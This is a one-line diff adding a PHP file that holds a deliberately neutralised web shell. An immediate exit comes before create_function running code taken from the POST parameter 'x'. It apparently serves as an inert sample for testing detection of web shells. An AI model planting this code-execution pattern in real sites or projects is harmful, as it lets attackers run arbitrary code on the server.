@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $f=create_function('',$_POST['x']);$f();
